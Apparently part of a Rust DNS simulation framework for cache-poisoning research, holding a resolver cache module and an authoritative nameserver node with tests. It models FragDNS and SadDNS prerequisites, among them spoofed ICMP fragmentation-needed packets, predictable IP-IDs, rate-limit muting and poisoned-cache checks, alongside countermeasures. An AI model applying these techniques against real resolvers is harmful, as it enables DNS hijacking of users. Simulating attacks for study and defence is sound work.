    /// The resolver refuses/does not support `ANY` queries at all
    /// (Unbound 1.9).
    Unsupported,
}

/// One cached record set.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CacheEntry {
    /// The cached records.
    pub records: Vec<ResourceRecord>,
    /// Absolute expiry time.
    pub expires: SimTime,
    /// When the entry was inserted.
    pub inserted: SimTime,
    /// Whether the entry was inserted from an `ANY` response.
    pub from_any: bool,
}

/// A positive-only resolver cache keyed by `(name, type)`.
#[derive(Debug, Clone, Default)]
pub struct Cache {
    entries: HashMap<(DomainName, u16), CacheEntry>,
    /// Total number of insertions (metrics).
    pub insertions: u64,
    /// Total number of cache hits (metrics).
    pub hits: u64,
    /// Total number of cache misses (metrics).
    pub misses: u64,
    /// Misses caused by an entry that was present but past its expiry
    /// (a subset of `misses`).
    pub expired: u64,
}

impl Cache {
    /// Creates an empty cache.
    pub fn new() -> Self {
        Cache::default()
    }

    fn key(name: &DomainName, rtype: RecordType) -> (DomainName, u16) {
        (name.to_lowercase(), rtype.number())
    }

    /// Inserts records grouped by `(owner name, type)` with their TTLs.
    ///
    /// `from_any` marks entries that came from an `ANY` response so the
    /// ANY-caching policy can decide whether later specific queries may use
    /// them.
    pub fn insert_records(&mut self, records: &[ResourceRecord], now: SimTime, from_any: bool) {
        let mut grouped: HashMap<(DomainName, u16), Vec<ResourceRecord>> = HashMap::new();
        for rr in records {
            // RRSIGs ride along with the set they cover.
            grouped.entry(Self::key(&rr.name, rr.rdata.covered_type())).or_default().push(rr.clone());
        }
        for (key, set) in grouped {
            let min_ttl = set.iter().map(|r| r.ttl).min().unwrap_or(0);
            let mut expires = now + Duration::from_secs(u64::from(min_ttl));
            // RFC 4035 §5.3.3: a signed set must not be served past its
            // signature's expiration, whatever the record TTLs claim.
            for rr in &set {
                if let RData::Rrsig { expiration, .. } = &rr.rdata {
                    let sig_expires = SimTime::from_secs(u64::from(*expiration));
                    if sig_expires < expires {
                        expires = sig_expires;
                    }
                }
            }
            let entry = CacheEntry { records: set, expires, inserted: now, from_any };
            self.entries.insert(key, entry);
            self.insertions += 1;
        }
    }

    /// Looks up a record set. `allow_any_derived` controls whether entries
    /// that were inserted from an `ANY` response may satisfy the lookup.
    pub fn lookup_with_policy(
        &mut self,
        name: &DomainName,
        rtype: RecordType,
        now: SimTime,
        allow_any_derived: bool,
    ) -> Option<Vec<ResourceRecord>> {
        let key = Self::key(name, rtype);
        match self.entries.get(&key) {
            Some(entry) if entry.expires > now && (allow_any_derived || !entry.from_any) => {
                self.hits += 1;
                Some(entry.records.clone())
            }
            Some(entry) if entry.expires <= now => {
                self.expired += 1;
                self.misses += 1;
                None
            }
            _ => {
                self.misses += 1;
                None
            }
        }
    }

    /// Looks up a record set, allowing ANY-derived entries (the common case).
    pub fn lookup(&mut self, name: &DomainName, rtype: RecordType, now: SimTime) -> Option<Vec<ResourceRecord>> {
        self.lookup_with_policy(name, rtype, now, true)
    }

    /// Non-mutating peek that ignores hit/miss accounting.
    pub fn peek(&self, name: &DomainName, rtype: RecordType, now: SimTime) -> Option<&CacheEntry> {
        self.entries.get(&Self::key(name, rtype)).filter(|e| e.expires > now)
    }

    /// Convenience used everywhere in the attack evaluations: the first `A`
    /// address cached for `name`, if any.
    pub fn cached_a(&self, name: &DomainName, now: SimTime) -> Option<Ipv4Addr> {
        self.peek(name, RecordType::A, now).and_then(|e| e.records.iter().find_map(|r| r.rdata.as_ipv4()))
    }

    /// Whether the cache currently maps `name`'s `A` record to `addr` — the
    /// "is the cache poisoned with the attacker's address?" check.
    pub fn is_poisoned_with(&self, name: &DomainName, addr: Ipv4Addr, now: SimTime) -> bool {
        self.cached_a(name, now) == Some(addr)
    }

    /// Removes expired entries.
    pub fn evict_expired(&mut self, now: SimTime) {
        self.entries.retain(|_, e| e.expires > now);
    }

    /// Removes everything (the operator's "flush the cache" remediation).
    pub fn flush(&mut self) {
        self.entries.clear();
    }

    /// Number of live entries at `now`.
    pub fn len_at(&self, now: SimTime) -> usize {
        self.entries.values().filter(|e| e.expires > now).count()
    }

    /// Total number of entries including expired ones not yet evicted.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether the cache is empty.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Iterates over all entries (measurement tooling: "which applications'
    /// well-known domains are present in this cache?", Section 4.3.2).
    pub fn iter(&self) -> impl Iterator<Item = (&(DomainName, u16), &CacheEntry)> {
        self.entries.iter()
    }
}

/// A cache handle shareable between several resolvers.
///
/// This models an anycast resolver fleet (or a multi-process resolver with a
/// shared memory cache): every frontend answers from — and poisons — the same
/// store, which is exactly the blast-radius multiplier studied by
/// `core::anycache`. Cloning the handle is cheap and aliases the same cache.
///
/// Single-threaded by design (`Rc<RefCell<_>>`): a simulation runs on one
/// thread, and campaign workers each build their own simulations.
#[derive(Debug, Clone, Default)]
pub struct SharedCache(std::rc::Rc<std::cell::RefCell<Cache>>);

impl SharedCache {
    /// Creates a handle to a fresh empty cache.
    pub fn new() -> Self {
        SharedCache::default()
    }

    /// Shared read access. Panics if a mutable borrow is live (callbacks
    /// never hold borrows across resolver re-entry, so this cannot happen in
    /// simulation code).
    pub fn borrow(&self) -> std::cell::Ref<'_, Cache> {
        self.0.borrow()
    }

    /// Exclusive access through the shared handle.
    pub fn borrow_mut(&self) -> std::cell::RefMut<'_, Cache> {
        self.0.borrow_mut()
    }

    /// Number of frontends sharing this cache (including this handle).
    pub fn handles(&self) -> usize {
        std::rc::Rc::strong_count(&self.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn n(s: &str) -> DomainName {
        s.parse().unwrap()
    }

    fn a(name: &str, ttl: u32, addr: &str) -> ResourceRecord {
        ResourceRecord::new(n(name), ttl, RData::A(addr.parse().unwrap()))
    }

    #[test]
    fn shared_cache_aliases_one_store() {
        let h1 = SharedCache::new();
        let h2 = h1.clone();
        assert_eq!(h1.handles(), 2);
        h1.borrow_mut().insert_records(&[a("vict.im", 300, "30.0.0.25")], SimTime::ZERO, false);
        // The sibling handle sees the insertion: one store, two frontends.
        assert_eq!(h2.borrow().cached_a(&n("vict.im"), SimTime::ZERO), Some("30.0.0.25".parse().unwrap()));
        h2.borrow_mut().flush();
        assert!(h1.borrow().is_empty());
    }

    #[test]
    fn insert_lookup_roundtrip() {
        let mut c = Cache::new();
        c.insert_records(&[a("vict.im", 300, "30.0.0.25")], SimTime::ZERO, false);
        let got = c.lookup(&n("vict.im"), RecordType::A, SimTime::ZERO).unwrap();
        assert_eq!(got.len(), 1);
        assert_eq!(c.hits, 1);
        assert_eq!(c.cached_a(&n("vict.im"), SimTime::ZERO), Some("30.0.0.25".parse().unwrap()));
    }

    #[test]
    fn lookup_is_case_insensitive() {
        let mut c = Cache::new();
        c.insert_records(&[a("VICT.IM", 300, "30.0.0.25")], SimTime::ZERO, false);
        assert!(c.lookup(&n("vict.im"), RecordType::A, SimTime::ZERO).is_some());
    }

    #[test]
    fn ttl_expiry() {
        let mut c = Cache::new();
        c.insert_records(&[a("vict.im", 60, "30.0.0.25")], SimTime::ZERO, false);
        let before = SimTime::ZERO + Duration::from_secs(59);
        let after = SimTime::ZERO + Duration::from_secs(61);
        assert!(c.lookup(&n("vict.im"), RecordType::A, before).is_some());
        assert!(c.lookup(&n("vict.im"), RecordType::A, after).is_none());
        assert_eq!(c.expired, 1, "the stale entry counts as an expired miss");
        assert_eq!(c.misses, 1);
        assert!(c.lookup(&n("other.example"), RecordType::A, after).is_none());
        assert_eq!(c.expired, 1, "a plain absent-key miss is not an expired miss");
        assert_eq!(c.misses, 2);
        assert_eq!(c.len_at(after), 0);
        c.evict_expired(after);
        assert!(c.is_empty());
    }

    #[test]
    fn poisoning_check() {
        let mut c = Cache::new();
        c.insert_records(&[a("vict.im", 300, "6.6.6.6")], SimTime::ZERO, false);
        assert!(c.is_poisoned_with(&n("vict.im"), "6.6.6.6".parse().unwrap(), SimTime::ZERO));
        assert!(!c.is_poisoned_with(&n("vict.im"), "30.0.0.25".parse().unwrap(), SimTime::ZERO));
    }

    #[test]
    fn later_insert_overwrites() {
        let mut c = Cache::new();
        c.insert_records(&[a("vict.im", 300, "30.0.0.25")], SimTime::ZERO, false);
        c.insert_records(&[a("vict.im", 300, "6.6.6.6")], SimTime::ZERO, false);
        assert_eq!(c.cached_a(&n("vict.im"), SimTime::ZERO), Some("6.6.6.6".parse().unwrap()));
        assert_eq!(c.insertions, 2);
    }

    #[test]
    fn any_derived_entries_respect_policy() {
        let mut c = Cache::new();
        c.insert_records(&[a("vict.im", 300, "6.6.6.6")], SimTime::ZERO, true);
        // Policy CacheAndUse: hit.
        assert!(c.lookup_with_policy(&n("vict.im"), RecordType::A, SimTime::ZERO, true).is_some());
        // Policy NotCached: the ANY-derived entry may not answer an A query.
        assert!(c.lookup_with_policy(&n("vict.im"), RecordType::A, SimTime::ZERO, false).is_none());
    }

    #[test]
    fn different_types_are_distinct() {
        let mut c = Cache::new();
        c.insert_records(
            &[a("vict.im", 300, "30.0.0.25"), ResourceRecord::new(n("vict.im"), 300, RData::Txt("v=spf1 -all".into()))],
            SimTime::ZERO,
            false,
        );
        assert!(c.lookup(&n("vict.im"), RecordType::A, SimTime::ZERO).is_some());
        assert!(c.lookup(&n("vict.im"), RecordType::TXT, SimTime::ZERO).is_some());
        assert!(c.lookup(&n("vict.im"), RecordType::MX, SimTime::ZERO).is_none());
        assert_eq!(c.len(), 2);
    }

    fn rrsig(covered: RecordType, expiration: u32) -> ResourceRecord {
        ResourceRecord::new(
            n("vict.im"),
            300,
            RData::Rrsig {
                type_covered: covered,
                algorithm: crate::dnssec::SIM_ALGORITHM,
                labels: 2,
                original_ttl: 300,
                expiration,
                inception: 0,
                key_tag: 1,
                signer: n("vict.im"),
                signature: vec![0; 16],
            },
        )
    }

    #[test]
    fn rrsig_files_under_covered_type() {
        let mut c = Cache::new();
        c.insert_records(&[a("vict.im", 300, "30.0.0.25"), rrsig(RecordType::A, 900)], SimTime::ZERO, false);
        let set = c.lookup(&n("vict.im"), RecordType::A, SimTime::ZERO).unwrap();
        assert_eq!(set.len(), 2, "A record and its RRSIG cached together");
    }

    #[test]
    fn signature_expiration_caps_the_entry_ttl() {
        let mut c = Cache::new();
        // The record's TTL says 300s, but its signature dies at t=60s: the
        // cache must not serve the set past the signature window.
        c.insert_records(&[a("vict.im", 300, "30.0.0.25"), rrsig(RecordType::A, 60)], SimTime::ZERO, false);
        assert!(c.lookup(&n("vict.im"), RecordType::A, SimTime::from_secs(59)).is_some());
        assert!(c.lookup(&n("vict.im"), RecordType::A, SimTime::from_secs(61)).is_none());
        // A far-future expiration leaves the TTL alone.
        c.insert_records(&[a("vict.im", 300, "30.0.0.25"), rrsig(RecordType::A, 1_000_000)], SimTime::ZERO, false);
        assert!(c.lookup(&n("vict.im"), RecordType::A, SimTime::from_secs(299)).is_some());
        assert!(c.lookup(&n("vict.im"), RecordType::A, SimTime::from_secs(301)).is_none());
    }

    #[test]
    fn minimum_ttl_of_set_is_used() {
        let mut c = Cache::new();
        c.insert_records(&[a("vict.im", 10, "30.0.0.25"), a("vict.im", 300, "30.0.0.26")], SimTime::ZERO, false);
        let after = SimTime::ZERO + Duration::from_secs(11);
        assert!(c.lookup(&n("vict.im"), RecordType::A, after).is_none());
    }

    #[test]
    fn flush_clears_everything() {
        let mut c = Cache::new();
        c.insert_records(&[a("vict.im", 300, "30.0.0.25")], SimTime::ZERO, false);
        c.flush();
        assert!(c.is_empty());
        assert_eq!(c.iter().count(), 0);
    }
}
