//! The authoritative nameserver node.
//!
//! The nameserver exhibits every property the paper's measurements probe for
//! (Section 5.2.2):
//!
//! * **PMTUD reaction** — it honours spoofed ICMP "fragmentation needed"
//!   messages and subsequently fragments its UDP responses (FragDNS
//!   prerequisite), unless hardened with a minimum accepted MTU;
//! * **IP-ID assignment policy** — global incremental counter (predictable),
//!   per-destination counter, or random (sets the FragDNS hit rate);
//! * **response rate limiting (RRL)** — which the SadDNS attacker abuses to
//!   "mute" the genuine server and extend its race window;
//! * **`ANY` amplification** — large `ANY` responses exceed the minimum MTU
//!   and fragment, the main response-inflation vector;
//! * **record-order randomisation** — the countermeasure that makes the
//!   second-fragment UDP checksum unpredictable;
//! * **EDNS/TC handling** — responses larger than the client's advertised
//!   EDNS size are truncated, which defeats fragmentation-based poisoning
//!   (the "fitting into the response" constraint of Figure 4);
//! * **DNS over TCP** (RFC 7766) — the server listens on TCP 53 and answers
//!   length-prefixed queries over the stream with neither EDNS truncation
//!   (the stream has no size limit) nor RRL (the handshake proves return
//!   routability, so there is no reflection to rate-limit — and no muting
//!   oracle for SadDNS).

use crate::message::{frame_tcp, Message, Rcode, TcpFrameBuffer};
use crate::rdata::{RecordType, ResourceRecord};
use crate::zone::{LookupResult, Zone};
use netsim::prelude::*;
use rand::seq::SliceRandom;
use rand::Rng;
use std::collections::HashMap;
use std::net::Ipv4Addr;

/// Configuration of an authoritative nameserver.
#[derive(Debug, Clone)]
pub struct NameserverConfig {
    /// Address the nameserver listens on (port 53).
    pub addr: Ipv4Addr,
    /// Response rate limit in responses/second; `None` disables RRL.
    pub rrl_limit: Option<u32>,
    /// IP identification policy for outgoing packets.
    pub ipid_policy: IpIdPolicy,
    /// Whether the order of records in responses is randomised
    /// (countermeasure: makes the spoofed-fragment checksum unpredictable).
    pub randomize_record_order: bool,
    /// Whether `ANY` queries are answered with the full record set.
    pub respond_to_any: bool,
    /// Whether ICMP fragmentation-needed messages are honoured (PMTUD).
    pub honor_pmtud: bool,
    /// Minimum path MTU the server will accept from PMTUD signals.
    pub min_accepted_mtu: u16,
    /// Optional padding: responses are padded (with a synthetic TXT record)
    /// up to at least this many bytes — the "custom nameserver application
    /// which will always emit fragmented responses padded to a certain size"
    /// used by the paper's FragDNS vulnerability scanner.
    pub pad_responses_to: Option<u16>,
}

impl NameserverConfig {
    /// A conventional, unhardened nameserver at `addr`.
    pub fn new(addr: Ipv4Addr) -> Self {
        NameserverConfig {
            addr,
            rrl_limit: None,
            ipid_policy: IpIdPolicy::GlobalCounter,
            randomize_record_order: false,
            respond_to_any: true,
            honor_pmtud: true,
            min_accepted_mtu: 68,
            pad_responses_to: None,
        }
    }

    /// Enables RRL with the given responses/second budget.
    pub fn with_rrl(mut self, per_second: u32) -> Self {
        self.rrl_limit = Some(per_second);
        self
    }

    /// Sets the IPID policy.
    pub fn with_ipid(mut self, policy: IpIdPolicy) -> Self {
        self.ipid_policy = policy;
        self
    }
}

/// Counters exposed for measurements and tests.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct NameserverStats {
    /// Queries received (any type).
    pub queries_received: u64,
    /// `ANY` queries received.
    pub any_queries: u64,
    /// Responses actually sent.
    pub responses_sent: u64,
    /// Responses suppressed by RRL ("muted").
    pub responses_suppressed: u64,
    /// Responses truncated because they exceeded the client's EDNS size.
    pub responses_truncated: u64,
    /// Responses that left the server as more than one IP fragment.
    pub responses_fragmented: u64,
    /// PMTUD updates accepted.
    pub pmtu_updates: u64,
    /// Queries served over TCP (RFC 7766).
    pub tcp_queries: u64,
}

/// An authoritative nameserver serving one or more zones over the generic
/// socket API: a UDP socket and a TCP listener, both on port 53.
pub struct Nameserver {
    stack: HostStack,
    udp: Box<dyn Socket>,
    tcp: Box<dyn Socket>,
    tcp_rx: HashMap<Endpoint, TcpFrameBuffer>,
    zones: Vec<Zone>,
    config: NameserverConfig,
    rrl: ResponseRateLimiter,
    /// Counters.
    pub stats: NameserverStats,
}

impl Nameserver {
    /// Creates a nameserver for the given zones.
    pub fn new(config: NameserverConfig, zones: Vec<Zone>) -> Self {
        let stack_cfg = StackConfig {
            ipid_policy: config.ipid_policy,
            pmtud_enabled: config.honor_pmtud,
            min_accepted_mtu: config.min_accepted_mtu,
            ..Default::default()
        };
        let mut stack = HostStack::new(vec![config.addr], stack_cfg);
        let udp = UdpTransport.bind(&mut stack, crate::well_known_ports::DNS);
        let tcp = TcpTransport::listener().bind(&mut stack, crate::well_known_ports::DNS);
        let rrl = match config.rrl_limit {
            Some(limit) => ResponseRateLimiter::new(limit),
            None => ResponseRateLimiter::disabled(),
        };
        Nameserver { stack, udp, tcp, tcp_rx: HashMap::new(), zones, config, rrl, stats: NameserverStats::default() }
    }

    /// The address this server listens on.
    pub fn addr(&self) -> Ipv4Addr {
        self.config.addr
    }

    /// Whether this server enforces response rate limiting.
    pub fn has_rrl(&self) -> bool {
        self.rrl.is_enabled()
    }

    /// Read access to the configuration.
    pub fn config(&self) -> &NameserverConfig {
        &self.config
    }

    /// Read access to the zones served.
    pub fn zones(&self) -> &[Zone] {
        &self.zones
    }

    /// Mutable access to the zones served — used by rollover drills (and
    /// rollover-abusing attack scenarios) that step a zone's keys and
    /// re-sign it mid-simulation.
    pub fn zones_mut(&mut self) -> &mut [Zone] {
        &mut self.zones
    }

    /// The current path MTU the server assumes towards `dst` — used by the
    /// vulnerability scanner to check whether a spoofed PTB was accepted.
    pub fn path_mtu_to(&self, dst: Ipv4Addr, now: SimTime) -> u16 {
        self.stack.pmtu().mtu_for(dst, now)
    }

    /// The value the next global-counter IPID would take (measurement hook
    /// for the FragDNS IPID-predictability probe).
    pub fn peek_ipid(&self) -> u16 {
        self.stack.peek_global_ipid()
    }

    /// Builds the response message for a query, without transmitting it.
    /// Public so vulnerability scanners can reason about response sizes.
    pub fn answer_query(&self, query: &Message, rng: &mut impl Rng) -> Message {
        let mut response = Message::response_for(query);
        response.header.authoritative = true;
        let Some(question) = query.question() else {
            response.header.rcode = Rcode::FormErr;
            return response;
        };
        if question.qtype == RecordType::ANY && !self.config.respond_to_any {
            response.header.rcode = Rcode::NotImp;
            return response;
        }
        let mut matched: Option<(&Zone, LookupResult)> = None;
        for zone in &self.zones {
            match zone.lookup(&question.name, question.qtype) {
                LookupResult::OutOfZone => continue,
                other => {
                    matched = Some((zone, other));
                    break;
                }
            }
        }
        match matched {
            Some((zone, LookupResult::Records(mut records))) => {
                if self.config.randomize_record_order {
                    records.shuffle(rng);
                }
                response.answers = records;
                // Authority + glue. In a signed zone every RRset travels
                // with its covering RRSIGs, or a validator would (rightly)
                // call the response bogus.
                if zone.is_signed() {
                    response.authorities.extend(zone.rrset_with_sigs(&zone.origin, RecordType::NS));
                    let hosts: Vec<crate::name::DomainName> = response
                        .authorities
                        .iter()
                        .filter_map(|rr| match &rr.rdata {
                            crate::rdata::RData::Ns(host) => Some(host.clone()),
                            _ => None,
                        })
                        .collect();
                    for host in hosts {
                        response.additionals.extend(zone.rrset_with_sigs(&host, RecordType::A));
                    }
                } else if let LookupResult::Records(ns) = zone.lookup(&zone.origin, RecordType::NS) {
                    for rr in ns.iter().filter(|r| r.rtype() == RecordType::NS) {
                        response.authorities.push(rr.clone());
                        // Glue: the A record of the nameserver host.
                        if let crate::rdata::RData::Ns(host) = &rr.rdata {
                            if let LookupResult::Records(glue) = zone.lookup(host, RecordType::A) {
                                for g in glue.into_iter().filter(|g| g.rtype() == RecordType::A) {
                                    response.additionals.push(g);
                                }
                            }
                        }
                    }
                }
                // The apex DNSKEY RRset rides along so a validator can chain
                // DS -> DNSKEY -> RRSIG without extra round trips.
                response.additionals.extend(zone.dnskey_records());
            }
            Some((zone, LookupResult::NoData)) => {
                response.authorities.extend(zone.denial_records(&question.name));
                response.additionals.extend(zone.dnskey_records());
            }
            Some((zone, LookupResult::NxDomain)) => {
                response.header.rcode = Rcode::NxDomain;
                response.authorities.extend(zone.denial_records(&question.name));
                response.additionals.extend(zone.dnskey_records());
            }
            Some((_, LookupResult::OutOfZone)) | None => response.header.rcode = Rcode::Refused,
        }
        // Optional padding to force fragmentation (scanner behaviour).
        if let Some(target) = self.config.pad_responses_to {
            let current = response.wire_size();
            if current < usize::from(target) && response.header.rcode == Rcode::NoError {
                let pad = usize::from(target) - current - 16;
                if pad > 0 {
                    response.answers.push(ResourceRecord::new(
                        question.name.clone(),
                        60,
                        crate::rdata::RData::Txt("P".repeat(pad)),
                    ));
                }
            }
        }
        response
    }

    fn serve_udp(&mut self, peer: Endpoint, payload: &[u8], ctx: &mut Ctx<'_>) {
        let Ok(query) = Message::decode(payload) else { return };
        if query.header.is_response {
            return;
        }
        self.stats.queries_received += 1;
        if query.question().map(|q| q.qtype) == Some(RecordType::ANY) {
            self.stats.any_queries += 1;
        }

        // RRL: a muted nameserver simply does not respond.
        if !self.rrl.allow(ctx.now()) {
            self.stats.responses_suppressed += 1;
            return;
        }

        let mut response = self.answer_query(&query, ctx.rng());

        // EDNS size handling: truncate when the response does not fit the
        // client's advertised buffer. RFC 7766: the TC=1 stub invites the
        // client to retry over TCP, where no such limit exists.
        let limit = usize::from(query.edns_udp_size());
        if response.wire_size() > limit {
            response.header.truncated = true;
            response.answers.clear();
            response.authorities.clear();
            self.stats.responses_truncated += 1;
        }
        // Echo an OPT record advertising a large server-side buffer.
        response = response.with_edns(4096);

        let payload = response.encode();
        let udp = &mut self.udp;
        let fragments = with_io(&mut self.stack, ctx, |io| {
            udp.send_to(io, peer, &payload);
            io.out.len()
        });
        if fragments > 1 {
            self.stats.responses_fragmented += 1;
        }
        self.stats.responses_sent += 1;
    }

    /// Serves one length-prefixed query that arrived over a TCP connection.
    /// No EDNS truncation (the stream carries any size) and no RRL (the
    /// completed handshake proves the querier's address).
    fn serve_tcp(&mut self, peer: Endpoint, frame: &[u8], ctx: &mut Ctx<'_>) {
        let Ok(query) = Message::decode(frame) else { return };
        if query.header.is_response {
            return;
        }
        self.stats.queries_received += 1;
        self.stats.tcp_queries += 1;
        if query.question().map(|q| q.qtype) == Some(RecordType::ANY) {
            self.stats.any_queries += 1;
        }
        let response = self.answer_query(&query, ctx.rng()).with_edns(4096);
        let framed = frame_tcp(&response.encode());
        let tcp = &mut self.tcp;
        with_io(&mut self.stack, ctx, |io| tcp.send_to(io, peer, &framed));
        self.stats.responses_sent += 1;
    }
}

impl Node for Nameserver {
    fn on_packet(&mut self, ctx: &mut Ctx<'_>, pkt: Ipv4Packet) {
        let now = ctx.now();
        let output = {
            let rng = ctx.rng();
            self.stack.handle_packet(&pkt, now, rng)
        };
        for reply in output.replies {
            ctx.send(reply);
        }
        for event in output.events {
            match &event {
                StackEvent::Udp(dgram) if dgram.dst_port == crate::well_known_ports::DNS => {
                    self.serve_udp(Endpoint::new(dgram.src, dgram.src_port), &dgram.payload, ctx);
                }
                StackEvent::Tcp(_) => {
                    let tcp = &mut self.tcp;
                    let sock_events = with_io(&mut self.stack, ctx, |io| tcp.handle(io, &event));
                    for se in sock_events {
                        match se {
                            SocketEvent::Data { peer, payload, .. } => {
                                for frame in TcpFrameBuffer::push_and_drain(&mut self.tcp_rx, peer, &payload) {
                                    self.serve_tcp(peer, &frame, ctx);
                                }
                            }
                            SocketEvent::PeerClosed { peer, .. } => {
                                // Close our direction too so the connection
                                // winds down deterministically.
                                self.tcp_rx.remove(&peer);
                                let tcp = &mut self.tcp;
                                with_io(&mut self.stack, ctx, |io| tcp.close_peer(io, peer));
                            }
                            SocketEvent::Reset { peer, .. } => {
                                self.tcp_rx.remove(&peer);
                            }
                            SocketEvent::Connected { .. } => {}
                        }
                    }
                }
                StackEvent::PmtuUpdate { .. } => self.stats.pmtu_updates += 1,
                _ => {}
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::name::DomainName;
    use rand::SeedableRng;
    use rand_chacha::ChaCha20Rng;

    const NS_ADDR: Ipv4Addr = Ipv4Addr::new(123, 0, 0, 53);
    const RESOLVER: Ipv4Addr = Ipv4Addr::new(30, 0, 0, 1);

    fn n(s: &str) -> DomainName {
        s.parse().unwrap()
    }

    fn victim_zone() -> Zone {
        let mut z = Zone::new(n("vict.im"));
        z.add_ns("ns1.vict.im", NS_ADDR);
        z.add_a("vict.im", "30.0.0.25".parse().unwrap());
        z.add_a("www.vict.im", "30.0.0.25".parse().unwrap());
        z.add_mx(10, "mail.vict.im", "30.0.0.26".parse().unwrap());
        z.add_txt("vict.im", "v=spf1 ip4:30.0.0.0/24 -all");
        z
    }

    fn server(config: NameserverConfig) -> Nameserver {
        Nameserver::new(config, vec![victim_zone()])
    }

    fn query_packet(name: &str, qtype: RecordType, id: u16, edns: u16) -> Ipv4Packet {
        let q = Message::query(id, n(name), qtype).with_edns(edns);
        UdpDatagram::new(RESOLVER, NS_ADDR, 34567, 53, q.encode()).into_packet(9, 64)
    }

    /// Runs one query through a simulator with just the nameserver and a sink
    /// resolver, returning the packets the nameserver sent back.
    fn ask(server: Nameserver, queries: Vec<Ipv4Packet>) -> (Simulator, NodeId, NodeId) {
        let mut sim = Simulator::new(1);
        let ns = sim.add_node("ns", vec![NS_ADDR], server);
        let res = sim.add_node("resolver", vec![RESOLVER], SinkNode::default());
        sim.connect(ns, res, Link::with_latency(Duration::from_millis(5)));
        for q in queries {
            sim.inject(res, q);
        }
        sim.run();
        (sim, ns, res)
    }

    #[test]
    fn answers_a_query_authoritatively() {
        let mut rng = ChaCha20Rng::seed_from_u64(1);
        let srv = server(NameserverConfig::new(NS_ADDR));
        let q = Message::query(7, n("www.vict.im"), RecordType::A);
        let r = srv.answer_query(&q, &mut rng);
        assert!(r.header.is_response);
        assert!(r.header.authoritative);
        assert_eq!(r.header.rcode, Rcode::NoError);
        assert_eq!(r.answers[0].rdata.as_ipv4(), Some("30.0.0.25".parse().unwrap()));
        assert!(r.authorities.iter().any(|rr| rr.rtype() == RecordType::NS));
    }

    #[test]
    fn nxdomain_and_refused() {
        let mut rng = ChaCha20Rng::seed_from_u64(1);
        let srv = server(NameserverConfig::new(NS_ADDR));
        let r = srv.answer_query(&Message::query(7, n("nope.vict.im"), RecordType::A), &mut rng);
        assert_eq!(r.header.rcode, Rcode::NxDomain);
        let r = srv.answer_query(&Message::query(7, n("other.example"), RecordType::A), &mut rng);
        assert_eq!(r.header.rcode, Rcode::Refused);
    }

    #[test]
    fn any_refusal_configurable() {
        let mut rng = ChaCha20Rng::seed_from_u64(1);
        let mut cfg = NameserverConfig::new(NS_ADDR);
        cfg.respond_to_any = false;
        let srv = server(cfg);
        let r = srv.answer_query(&Message::query(7, n("vict.im"), RecordType::ANY), &mut rng);
        assert_eq!(r.header.rcode, Rcode::NotImp);
    }

    #[test]
    fn serves_queries_over_the_network() {
        let (sim, ns, res) =
            ask(server(NameserverConfig::new(NS_ADDR)), vec![query_packet("vict.im", RecordType::A, 42, 4096)]);
        assert_eq!(sim.node_ref::<Nameserver>(ns).unwrap().stats.queries_received, 1);
        assert_eq!(sim.node_ref::<Nameserver>(ns).unwrap().stats.responses_sent, 1);
        assert_eq!(sim.stats(res).udp_received, 1);
    }

    #[test]
    fn rrl_mutes_after_burst() {
        let cfg = NameserverConfig::new(NS_ADDR).with_rrl(10);
        let queries: Vec<Ipv4Packet> = (0..100).map(|i| query_packet("vict.im", RecordType::A, i, 4096)).collect();
        let (sim, ns, _res) = ask(server(cfg), queries);
        let stats = &sim.node_ref::<Nameserver>(ns).unwrap().stats;
        assert_eq!(stats.queries_received, 100);
        assert_eq!(stats.responses_sent, 10, "only the RRL budget is answered");
        assert_eq!(stats.responses_suppressed, 90);
    }

    #[test]
    fn pmtud_then_any_query_fragments_response() {
        // Step 1 of FragDNS: spoofed ICMP PTB lowers the server's path MTU.
        let srv = server(NameserverConfig::new(NS_ADDR));
        let mut sim = Simulator::new(3);
        let ns = sim.add_node("ns", vec![NS_ADDR], srv);
        let res = sim.add_node("resolver", vec![RESOLVER], SinkNode::default());
        sim.connect(ns, res, Link::default());
        // Craft the PTB quoting a packet "from" the nameserver to the resolver.
        let quoted = UdpDatagram::new(NS_ADDR, RESOLVER, 53, 34567, vec![0u8; 64]).into_packet(1, 64);
        let ptb = IcmpMessage::fragmentation_needed(&quoted, 68).into_packet(RESOLVER, NS_ADDR, 2, 64);
        sim.inject(res, ptb);
        sim.run();
        assert_eq!(sim.node_ref::<Nameserver>(ns).unwrap().path_mtu_to(RESOLVER, sim.now()), 68);
        assert_eq!(sim.node_ref::<Nameserver>(ns).unwrap().stats.pmtu_updates, 1);
        // Step 2: an ANY query now produces a fragmented response.
        sim.inject(res, query_packet("vict.im", RecordType::ANY, 7, 4096));
        sim.run();
        let stats = &sim.node_ref::<Nameserver>(ns).unwrap().stats;
        assert_eq!(stats.responses_fragmented, 1);
        assert!(sim.stats(res).udp_received >= 2, "multiple fragments arrive at the resolver");
    }

    #[test]
    fn hardened_server_ignores_tiny_ptb() {
        let mut cfg = NameserverConfig::new(NS_ADDR);
        cfg.min_accepted_mtu = 1280;
        let srv = server(cfg);
        let mut sim = Simulator::new(4);
        let ns = sim.add_node("ns", vec![NS_ADDR], srv);
        let res = sim.add_node("resolver", vec![RESOLVER], SinkNode::default());
        sim.connect(ns, res, Link::default());
        let quoted = UdpDatagram::new(NS_ADDR, RESOLVER, 53, 34567, vec![0u8; 64]).into_packet(1, 64);
        let ptb = IcmpMessage::fragmentation_needed(&quoted, 292).into_packet(RESOLVER, NS_ADDR, 2, 64);
        sim.inject(res, ptb);
        sim.run();
        assert_eq!(sim.node_ref::<Nameserver>(ns).unwrap().path_mtu_to(RESOLVER, sim.now()), 1500);
    }

    #[test]
    fn small_edns_buffer_causes_truncation() {
        let mut cfg = NameserverConfig::new(NS_ADDR);
        cfg.pad_responses_to = Some(1400);
        let (sim, ns, _res) = ask(server(cfg), vec![query_packet("vict.im", RecordType::ANY, 7, 512)]);
        let stats = &sim.node_ref::<Nameserver>(ns).unwrap().stats;
        // The padded ANY answer exceeds the client's 512-byte buffer, so the
        // server truncates instead of sending (and fragmenting) the answer —
        // exactly the "must fit the resolver's EDNS size" constraint.
        assert_eq!(stats.responses_truncated, 1);
        assert_eq!(stats.responses_fragmented, 0);
    }

    #[test]
